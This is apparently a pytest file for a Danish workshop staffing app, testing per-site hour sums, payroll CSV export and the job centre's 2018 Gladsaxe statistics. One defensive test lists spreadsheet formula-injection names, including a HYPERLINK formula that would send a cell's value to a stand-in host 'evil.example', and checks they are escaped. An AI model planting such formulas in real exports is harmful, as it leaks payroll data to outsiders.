"""Ledger sums per site, the payroll CSV and the job centre's year statistics."""
import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest

from staffing.ledger import book_minutes, correct_entry
from staffing.models import Course, CourseOutcome, CourseStatus, HoursKind
from staffing.reports import payroll_csv, payroll_lines, site_hours, sum_entries, person_entries, year_statistics
from workshop.extensions import db
from workshop.spreadsheet import neutralise

DAY = date(2026, 3, 2)


def test_site_hours_sum_training_and_paid_per_person(make_site, make_person):
    site = make_site()
    paid = make_person(site=site, name="Amina A.", employment_wage_ore=13_500)
    trainee = make_person(site=site, name="Hodan B.")
    other_site = make_person(employment_wage_ore=13_500)
    book_minutes(paid, DAY, 90, HoursKind.PAID)
    book_minutes(paid, DAY, 60, HoursKind.TRAINING)
    book_minutes(trainee, date(2026, 3, 8), 180, HoursKind.TRAINING)
    book_minutes(trainee, date(2026, 3, 9), 180, HoursKind.TRAINING)  # next week
    book_minutes(other_site, DAY, 60, HoursKind.PAID)
    rows = site_hours(site, date(2026, 3, 2), date(2026, 3, 8))
    assert [(r.person.name, r.training_minutes, r.paid_minutes, r.paid_amount_ore) for r in rows] == [
        ("Amina A.", 60, 90, 20_250), ("Hodan B.", 180, 0, 0)]


def test_a_fully_cancelled_person_drops_out_of_the_overview(make_site, make_person):
    site = make_site()
    person = make_person(site=site)
    correct_entry(book_minutes(person, DAY, 60, HoursKind.TRAINING), None, "fejl")
    assert site_hours(site, DAY, DAY) == []


def test_person_sums_include_corrections(make_person):
    person = make_person(employment_wage_ore=13_500)
    entry = book_minutes(person, DAY, 120, HoursKind.PAID)
    correct_entry(entry, None, "Gik tidligt", new_minutes=90)
    book_minutes(person, DAY, 30, HoursKind.TRAINING)
    sums = sum_entries(person_entries(person, DAY, DAY))
    assert (sums.training_minutes, sums.paid_minutes, sums.paid_amount_ore) == (30, 90, 20_250)


def test_payroll_has_one_line_per_person_and_rate(make_site, make_person):
    site = make_site()
    person = make_person(site=site, name="Amina A.", employment_wage_ore=13_500)
    book_minutes(person, DAY, 60, HoursKind.PAID)
    book_minutes(person, date(2026, 3, 3), 30, HoursKind.PAID)
    book_minutes(person, DAY, 45, HoursKind.PAID, wage_ore_per_hour=14_250)
    book_minutes(person, date(2026, 4, 1), 60, HoursKind.PAID)  # outside the period
    lines = payroll_lines(site, date(2026, 3, 1), date(2026, 3, 31))
    assert [(line.wage_ore_per_hour, line.minutes, line.amount_ore) for line in lines] == [
        (13_500, 90, 20_250), (14_250, 45, 10_688)]


def _payroll_rows(site) -> list[list[str]]:
    """March's payroll file as rows; it opens with the byte order mark a spreadsheet needs to read UTF-8."""
    text = payroll_csv(site, date(2026, 3, 1), date(2026, 3, 31))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_payroll_csv_uses_danish_decimals_and_ends_with_totals(make_site, make_person):
    site = make_site()
    amina = make_person(site=site, name="Amina A.", employment_wage_ore=13_550)
    hodan = make_person(site=site, name="Hodan B.", employment_wage_ore=13_500)
    book_minutes(amina, DAY, 100, HoursKind.PAID)  # 1,67 h · 135,50 = 225,83
    book_minutes(hodan, DAY, 90, HoursKind.PAID)  # 1,50 h · 135,00 = 202,50
    book_minutes(hodan, DAY, 60, HoursKind.TRAINING)
    rows = _payroll_rows(site)
    assert rows[0] == ["Person-id", "Navn", "Betalte timer", "Timeløn (kr.)", "Beløb (kr.)"]
    assert rows[1] == [str(amina.id), "Amina A.", "1,67", "135,50", "225,83"]
    assert rows[2] == [str(hodan.id), "Hodan B.", "1,50", "135,00", "202,50"]
    assert rows[3] == ["", "I alt", "3,17", "", "428,33"]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?d="&C2,"Dilan A.")', "+1+2", "-3+4", "@SUM(A1)",
                                  "\tTab", "\rReturn"])
def test_payroll_csv_never_carries_a_formula(make_site, make_person, name):
    """Issue 17, finding 8: a name a spreadsheet would run as a formula is written as plain text."""
    site = make_site()
    book_minutes(make_person(site=site, name=name, employment_wage_ore=13_500), DAY, 60, HoursKind.PAID)
    rows = _payroll_rows(site)
    assert rows[1][1] == "'" + name


def test_csv_cells_keep_plain_numbers_and_neutralise_formulas():
    assert [neutralise(cell) for cell in ["-12,50", "-3", 7, "Amina", "=1+1", "-1+1", ""]] == [
        "-12,50", "-3", 7, "Amina", "'=1+1", "'-1+1", ""]


def _course(site, person, referred, status, outcome=None, actual_end=None):
    course = Course(site=site, referral_date=referred, status=status, outcome=outcome, actual_end=actual_end,
                    interruption_reason="Forkert match" if status == CourseStatus.INTERRUPTED else "")
    person.courses.append(course)
    return course


def build_gladsaxe_2018(site, make_person):
    """The 2018 Gladsaxe records behind the DOMAIN.md table: 33 referred, 18 + 13 + 2."""
    completed_outcomes = (
        [CourseOutcome.FLEXJOB] * 2 + [CourseOutcome.SMALL_JOB] * 2 + [CourseOutcome.PAID_HOURS_WITH_INTERNSHIP] * 4
        + [CourseOutcome.EDUCATION] * 3 + [CourseOutcome.OTHER_MEASURE] * 4 + [CourseOutcome.NONE] * 3
    )
    assert len(completed_outcomes) == 18
    number = 0
    for outcome in completed_outcomes:
        number += 1
        _course(site, make_person(site=site), date(2018, 1 + number % 6, 10), CourseStatus.COMPLETED, outcome,
                actual_end=date(2018, 11, 30))
    for _ in range(13):
        number += 1
        _course(site, make_person(site=site), date(2018, 6 + number % 6, 3), CourseStatus.ACTIVE)
    for _ in range(2):
        _course(site, make_person(site=site), date(2018, 3, 1), CourseStatus.INTERRUPTED, actual_end=date(2018, 4, 1))
    # Not part of 2018's report: referred the year before and the year after.
    _course(site, make_person(site=site), date(2017, 12, 20), CourseStatus.COMPLETED, CourseOutcome.FLEXJOB,
            actual_end=date(2018, 5, 1))
    _course(site, make_person(site=site), date(2019, 1, 2), CourseStatus.ACTIVE)
    db.session.flush()


def test_the_2018_gladsaxe_table_exactly(make_site, make_person):
    site = make_site("gladsaxe")
    build_gladsaxe_2018(site, make_person)
    build_gladsaxe_2018(make_site(), make_person)  # another site's records never count
    stats = year_statistics(site, 2018)
    assert (stats.referred, stats.completed, stats.still_enrolled, stats.interrupted) == (33, 18, 13, 2)
    assert (stats.hired_flexjob, stats.hired_smalljob, stats.paid_with_internship) == (2, 2, 4)
    assert stats.in_all == 8
    assert stats.denominator == 31
    assert stats.share_percent == Decimal("25.8")
    assert [value for _label, value in stats.rows()] == ["33", "18", "13", "2", "2", "2", "4", "8 (25,8 %)"]


def test_a_course_that_ends_after_year_end_is_still_enrolled_that_year(make_site, make_person):
    site = make_site()
    _course(site, make_person(site=site), date(2018, 10, 1), CourseStatus.COMPLETED, CourseOutcome.SMALL_JOB,
            actual_end=date(2019, 2, 1))
    _course(site, make_person(site=site), date(2018, 10, 1), CourseStatus.INTERRUPTED, actual_end=date(2019, 1, 5))
    db.session.flush()
    stats = year_statistics(site, 2018)
    assert (stats.referred, stats.completed, stats.still_enrolled, stats.interrupted) == (2, 0, 2, 0)


def test_an_empty_year_has_a_zero_share(make_site):
    stats = year_statistics(make_site(), 2018)
    assert stats.referred == 0 and stats.share_percent == Decimal("0.0")


@pytest.mark.parametrize("as_json", [False, True])
def test_report_from_the_command_line(app, make_site, make_person, as_json):
    site = make_site("gladsaxe")
    build_gladsaxe_2018(site, make_person)
    db.session.commit()
    args = ["report", "jobcentre", "--site", "gladsaxe", "--year", "2018"] + (["--json"] if as_json else [])
    result = app.test_cli_runner().invoke(args=args)
    assert result.exit_code == 0, result.output
    if as_json:
        data = json.loads(result.output)
        assert data["referred"] == 33 and data["in_all"] == 8 and data["share_percent"] == 25.8
    else:
        assert "Henvist af jobcentret i løbet af året" in result.output
        assert "8 (25,8 %)" in result.output


def test_report_for_an_unknown_site_fails_cleanly(app):
    result = app.test_cli_runner().invoke(args=["report", "jobcentre", "--site", "nowhere", "--year", "2018"])
    assert result.exit_code != 0
    assert "nowhere" in result.output
